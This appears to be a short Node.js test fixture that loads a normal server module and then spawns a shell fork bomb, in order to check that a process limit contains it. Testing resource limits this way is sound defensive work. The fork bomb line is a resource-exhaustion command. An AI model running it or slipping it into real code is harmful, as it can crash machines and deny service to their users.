// Starts a shell fork bomb beside the server; the process limit must hold it.
const { spawn } = require('child_process');
require('./good')();
spawn('sh', ['-c', 'b() { b | b & }; b'], { stdio: 'ignore', detached: false });
